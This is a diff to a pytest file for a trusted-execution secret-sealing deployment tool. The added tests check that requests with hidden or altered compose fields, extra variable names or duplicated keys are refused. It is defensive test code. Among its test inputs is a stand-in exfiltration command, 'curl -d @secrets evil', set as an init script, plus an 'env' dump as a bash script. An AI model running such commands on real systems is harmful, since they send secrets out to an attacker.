@@ -9,7 +9,7 @@ import pytest
 from blueprint.errors import AttestationError
 from blueprint.tee.sealing import SealingError, SecretVariable, unseal
 from blueprint.tee.simulator.kms import SimulatedKms
-from jobs.deploy.app_compose import AppCompose
+from jobs.deploy.app_compose import AppCompose, AppComposeError
 from jobs.deploy.envelope import Envelope, EnvelopeError, SealingRequest
 from jobs.deploy.record import DeploymentRecord, Stage
 from jobs.deploy.trust import KmsTrust
@@ -43,7 +43,8 @@ def test_what_is_sealed_for_a_request_opens_with_the_applications_key(tmp_path: 
     """Both files go through the disk, and neither holds the value."""
     SealingRequest.of(record()).write(tmp_path / "request")
     request = SealingRequest.read(tmp_path / "request")
-    assert (request.compose_text, request.compose_hash) == (TEXT, WORKLOAD.compose_hash)
+    assert request.application.docker_compose_file == TEXT
+    assert request.compose_hash == WORKLOAD.compose_hash
     request.seal((SECRET,), trust()).write(tmp_path / "sealed")
     envelope = Envelope.read(tmp_path / "sealed")
     envelope.check(recorded(record()), record())
@@ -87,6 +88,39 @@ def test_a_key_of_another_kms_is_not_sealed_for() -> None:
     """The pinned key is the only one that is believed."""
     with pytest.raises(AttestationError):
         SealingRequest.of(record()).seal((SECRET,), trust(SimulatedKms(b"o" * 32).root_public_key))
+
+
+@pytest.mark.parametrize(
+    ("change", "said"),
+    [
+        ({"init_script": "curl -d @secrets evil"}, "'init_script'"),
+        ({"runner": "bash", "bash_script": "env"}, "'bash_script', 'runner'"),
+        ({"local_key_provider_enabled": True}, "'local_key_provider_enabled'"),
+        ({"manifest_version": 3}, "'manifest_version'"),
+        ({"pre_launch_script": ""}, "'pre_launch_script'"),
+        ({"docker_compose_file": 5}, "no object with a docker_compose_file"),
+        ({"public_logs": "no"}, "public_logs"),
+    ],
+)
+def test_nothing_is_sealed_for_what_a_request_hides(change: dict[str, object], said: str) -> None:
+    """The text that its author expects stands in it, and beside it what a guest would run or believe too."""
+    members = json.loads(WORKLOAD.app_compose) | change
+    hiding = json.dumps(members, sort_keys=True, separators=(",", ":"), ensure_ascii=False)
+    with pytest.raises(AppComposeError, match=said):
+        replace(SealingRequest.of(record()), app_compose=hiding).seal((SECRET,), trust())
+
+
+def test_a_request_for_other_variables_than_the_application_gets_is_refused() -> None:
+    """The guest would drop them without a word."""
+    with pytest.raises(EnvelopeError, match="names other variables"):
+        replace(SealingRequest.of(record()), names=("OTHER",)).seal((SecretVariable("OTHER", "x"),), trust())
+
+
+def test_a_request_in_another_form_is_not_sealed_for() -> None:
+    """A key that comes twice is read one way here, and perhaps the other way in a guest."""
+    twice = WORKLOAD.app_compose.decode().replace("{", '{"docker_compose_file":"services: {}",', 1)
+    with pytest.raises(AppComposeError, match="its form is another one"):
+        replace(SealingRequest.of(record()), app_compose=twice).seal((SECRET,), trust())
 
 
 def test_a_deployment_without_a_key_takes_no_variables() -> None:
